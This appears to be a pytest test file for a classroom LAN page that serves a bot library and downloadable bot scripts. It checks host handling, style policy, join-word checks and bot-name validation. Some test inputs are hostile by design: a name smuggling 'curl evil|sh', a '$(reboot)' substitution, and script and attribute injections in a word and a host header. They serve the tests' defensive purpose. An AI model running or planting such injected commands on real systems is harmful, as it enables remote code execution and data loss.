from __future__ import annotations

import ast
import inspect
import re
from pathlib import Path
from urllib.parse import quote

import pytest

import turnwright
from packages.core.tests.messages import missing, says
from turnwright import catalog
from turnwright.app.lan.bot_templates import BotTemplates, class_bot
from turnwright.app.lan.bot_wheel import bot_wheel
from turnwright.app.lan.class_page import ClassPages, bot_name_problem
from turnwright.net.http.request import HttpResponse
from turnwright.net.http.viewer_files import load_viewer

HOST = "192.168.1.20:7654"
WORD = "quick-otter-42"


@pytest.fixture(scope="module")
def pages() -> ClassPages:
    return ClassPages(catalog.find("snake"), lambda word: word == WORD)


def ask(pages: ClassPages, path: str, host: str = HOST) -> HttpResponse:
    answer = pages.respond(path, {"host": host})
    assert answer is not None
    return answer


def test_the_page_names_the_server_as_the_browser_did_and_fills_the_word_in(pages: ClassPages) -> None:
    answer = ask(pages, f"/get?word={WORD}")
    wheel = f"http://{HOST}/get/{quote(bot_wheel().name)}"
    assert answer.status == 200
    assert not missing(answer.body.decode(), f"pip install {wheel}", f'value="{WORD}"')
    assert "http://10.0.0.5/get" in ask(pages, "/get", "10.0.0.5").body.decode()


def test_the_page_uses_only_the_styles_of_its_server(
    pages: ClassPages,
) -> None:
    answer = ask(pages, "/get")
    assert "<style" not in answer.body.decode()
    assert "style-src 'self';" in answer.policy
    files = load_viewer()
    used = re.findall(r'(?:href|src)="/(viewer/[^"]+)"', answer.body.decode())
    assert "viewer/app.css" in used
    assert not [one for one in used if one not in files]


def test_the_messages_that_the_page_explains_are_those_of_the_programs(pages: ClassPages) -> None:
    quoted = re.findall("<p><b>(.*?)</b>", ask(pages, "/get").body.decode())
    page, root = inspect.getfile(ClassPages), Path(turnwright.__file__).parent
    lines = [
        line
        for path in root.rglob("*.py")
        if str(path) != page
        for line in path.read_text("utf-8").splitlines()
    ]
    ours = [message for message in quoted if message != "SyntaxError"]
    assert len(ours) == 3
    assert not [message for message in ours if not any(says(line, message) for line in lines)]


@pytest.mark.parametrize("name", [bot_wheel().name, quote(bot_wheel().name)])
def test_the_library_is_served_under_its_name(pages: ClassPages, name: str) -> None:
    assert ask(pages, f"/get/{name}").body == bot_wheel().content


def test_a_bot_knows_its_server_and_the_word_and_gives_way_to_its_environment(pages: ClassPages) -> None:
    answer = ask(pages, f"/get/bot?name=Ada&word={WORD}")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="Ada.py"'
    program = answer.body.decode()
    assert ast.get_docstring(ast.parse(program))
    head = program.partition("from turnwright")[0]
    environ: dict[str, str] = {}
    exec(head.replace("import os", "").replace("os.environ", "environ"), {"environ": environ})
    assert environ == {"SERVER_URL": f"ws://{HOST}", "SERVER_SECRET": WORD}


@pytest.mark.parametrize("word", ['say-"hi"', "it's", '"it\'s"', "back\\slash", "ü😀"])
def test_a_bot_knows_a_word_of_any_signs(word: str) -> None:
    templates = BotTemplates.of(catalog.find("snake"))
    environ: dict[str, str] = {}
    head = class_bot(templates, "Ada", f"ws://{HOST}", word).partition("from turnwright")[0]
    exec(head.replace("import os", "").replace("os.environ", "environ"), {"environ": environ})
    assert environ["SERVER_SECRET"] == word


@pytest.mark.parametrize("name", ["x;curl evil|sh", "$(reboot)", "class"])
def test_a_command_to_copy_names_no_file_that_a_bot_cannot_have(pages: ClassPages, name: str) -> None:
    commands = re.findall(
        "<pre[^>]*>(?:py|python3) ([^<-]*)</pre>", ask(pages, f"/get?name={quote(name)}").body.decode()
    )
    assert commands == ["NAME.py"] * 2
    assert ">py Ada.py<" in ask(pages, "/get?name=Ada").body.decode()


@pytest.mark.parametrize("word", ["", "wrong", '<script>"'])
def test_without_the_join_word_a_page_with_the_reason_replaces_the_bot(pages: ClassPages, word: str) -> None:
    answer = ask(pages, f"/get/bot?name=Ada&word={quote(word)}")
    assert (answer.status, answer.headers) == (403, {})
    assert 'role="alert"' in answer.body.decode()
    assert 'value="Ada"' in answer.body.decode()
    assert "<script>" not in answer.body.decode()
    assert WORD not in answer.body.decode()


@pytest.mark.parametrize("name", ["", "2fast", "a b", "../x", "Zoë", "class", "random", "Bot", "x" * 31])
def test_a_name_that_python_would_not_take_is_refused(pages: ClassPages, name: str) -> None:
    assert bot_name_problem(name)
    assert ask(pages, f"/get/bot?name={quote(name)}&word={WORD}").status == 400


@pytest.mark.parametrize(
    ("path", "host"),
    [
        ("/", HOST),
        ("/getting", HOST),
        ("/get/other", HOST),
        ("/get/other.whl", HOST),
        ("/get", 'evil" onload=x'),
        ("/get", ""),
    ],
)
def test_other_paths_are_not_answered(pages: ClassPages, path: str, host: str) -> None:
    assert pages.respond(path, {"host": host}) is None
